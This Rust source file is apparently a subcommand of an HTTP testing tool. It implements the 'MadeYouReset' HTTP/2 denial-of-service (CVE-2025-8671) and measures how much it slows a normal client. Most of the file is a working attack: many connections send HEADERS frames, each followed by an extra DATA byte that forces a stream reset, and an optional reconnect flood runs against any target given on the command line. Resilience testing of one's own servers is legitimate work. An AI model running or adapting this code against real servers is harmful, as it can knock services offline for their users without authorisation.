//! `made-you-reset`: what connections that make the server reset streams ("MadeYouReset",
//! CVE-2025-8671: a valid HEADERS, then a frame that is an error on that stream, here a
//! DATA byte beyond the `content-length: 0` announced) cost a good client: its median and p99 latency alone, then while
//! `--attackers` such connections run (each reconnecting when the target closes it).

use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant};

use anyhow::Result;
use clap::Args;
use http::Method;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::client::{LoadBody, Sender};
use crate::h2raw::{frame, opening, post_headers};
use crate::stats::{Histogram, Report};
use crate::target::{Proto, Target, TargetArgs};

#[derive(Args, Debug)]
pub(crate) struct ResetArgs {
    #[command(flatten)]
    pub target: TargetArgs,
    /// Attacking connections at once.
    #[arg(long, default_value_t = 4, value_parser = clap::value_parser!(u32).range(1..=1_000))]
    pub attackers: u32,
    /// Seconds of each phase (good client alone, then with the attackers).
    #[arg(long, default_value_t = 10, value_parser = clap::value_parser!(u64).range(1..=600))]
    pub duration: u64,
    /// Attackers reconnect when the target closes them (then the attack is also a
    /// handshake flood); by default each attacker is one connection.
    #[arg(long)]
    pub reconnect: bool,
    /// Path the good client and the attackers ask for.
    #[arg(long, default_value = "/")]
    pub path: String,
}

/// Totals over every attacking connection.
#[derive(Default)]
struct Attack {
    connections: AtomicU64,
    streams: AtomicU64,
    /// Connections that ended (closed by the target, or stopped), and their lifetimes.
    closed: AtomicU64,
    lived_ms: AtomicU64,
}

/// One attacker: connects, then sends batches of "HEADERS, one DATA byte too many" on new
/// streams as fast as the target takes them, reconnecting when it is closed.
async fn attack(
    target: Target,
    path: String,
    reconnect: bool,
    stop: Arc<AtomicBool>,
    totals: Arc<Attack>,
) {
    let headers = post_headers(&path, &target.sni);
    let mut first = true;
    while !stop.load(Ordering::Relaxed) && (first || reconnect) {
        first = false;
        let Ok(tls) = target.connect().await else {
            tokio::time::sleep(Duration::from_millis(10)).await;
            continue;
        };
        totals.connections.fetch_add(1, Ordering::Relaxed);
        let opened = Instant::now();
        let (mut read, mut write) = tokio::io::split(tls);
        // Reads (and drops) what the target sends, so that its writes never block.
        let reader = tokio::spawn(async move {
            let mut buf = vec![0u8; 16 * 1024];
            while let Ok(n) = read.read(&mut buf).await {
                if n == 0 {
                    break;
                }
            }
        });
        let hello = opening();
        if write.write_all(&hello).await.is_err() {
            continue;
        }
        let mut stream = 1u32;
        while !stop.load(Ordering::Relaxed) && stream < (1 << 30) && !reader.is_finished() {
            let mut batch = Vec::with_capacity(64 * 64);
            for _ in 0..32 {
                // END_HEADERS, not END_STREAM: the request is taken, then made an error
                // by a byte beyond the `content-length: 0` it announced.
                batch.extend(frame(1, 0x4, stream, &headers));
                batch.extend(frame(0, 0, stream, b"x"));
                stream += 2;
            }
            if write.write_all(&batch).await.is_err() {
                break;
            }
            totals.streams.fetch_add(32, Ordering::Relaxed);
        }
        reader.abort();
        totals.closed.fetch_add(1, Ordering::Relaxed);
        totals
            .lived_ms
            .fetch_add(opened.elapsed().as_millis() as u64, Ordering::Relaxed);
    }
}

/// The good client's latencies over one phase.
async fn measure(target: &Target, path: &str, duration: Duration) -> Result<(Histogram, u64)> {
    let mut send = Sender::open(target, Proto::H1).await?;
    let mut latency = Histogram::default();
    let mut errors = 0;
    let end = Instant::now() + duration;
    while Instant::now() < end {
        let started = Instant::now();
        match send
            .request(&target.sni, Method::GET, path, LoadBody::empty())
            .await
        {
            Ok(_) => latency.record(started.elapsed().as_micros() as u64),
            Err(_) => {
                errors += 1;
                send = Sender::open(target, Proto::H1).await?;
            }
        }
    }
    Ok((latency, errors))
}

pub(crate) async fn run(args: ResetArgs, json: bool) -> Result<()> {
    let target = Target::new(&args.target, Proto::H1)?;
    let attacker_target = Target::new(&args.target, Proto::H2)?;
    let phase = Duration::from_secs(args.duration);
    let (alone, alone_errors) = measure(&target, &args.path, phase).await?;

    let stop = Arc::new(AtomicBool::new(false));
    let totals = Arc::new(Attack::default());
    let mut attackers = Vec::new();
    for _ in 0..args.attackers {
        attackers.push(tokio::spawn(attack(
            attacker_target.clone(),
            args.path.clone(),
            args.reconnect,
            stop.clone(),
            totals.clone(),
        )));
    }
    tokio::time::sleep(Duration::from_millis(500)).await;
    let (attacked, attacked_errors) = measure(&target, &args.path, phase).await?;
    stop.store(true, Ordering::Relaxed);
    for a in attackers {
        a.abort();
    }

    let (p50_alone, p50_attacked) = (alone.percentile(0.5), attacked.percentile(0.5));
    let mut report = Report::new("good client latency under MadeYouReset");
    report
        .add("target", target.addr.to_string())
        .add("attackers", args.attackers)
        .add("alone_requests", alone.count())
        .add("alone_p50_us", p50_alone)
        .add("alone_p99_us", alone.percentile(0.99))
        .add("alone_errors", alone_errors)
        .add("attacked_requests", attacked.count())
        .add("attacked_p50_us", p50_attacked)
        .add("attacked_p99_us", attacked.percentile(0.99))
        .add("attacked_errors", attacked_errors)
        .add("p50_ratio", p50_attacked as f64 / p50_alone.max(1) as f64)
        .add(
            "attacker_connections",
            totals.connections.load(Ordering::Relaxed),
        )
        .add(
            "attacker_streams_sent",
            totals.streams.load(Ordering::Relaxed),
        )
        .add("attacker_reconnect", args.reconnect)
        .add(
            "attacker_mean_lifetime_ms",
            totals.lived_ms.load(Ordering::Relaxed) / totals.closed.load(Ordering::Relaxed).max(1),
        );
    report.print(json);
    Ok(())
}
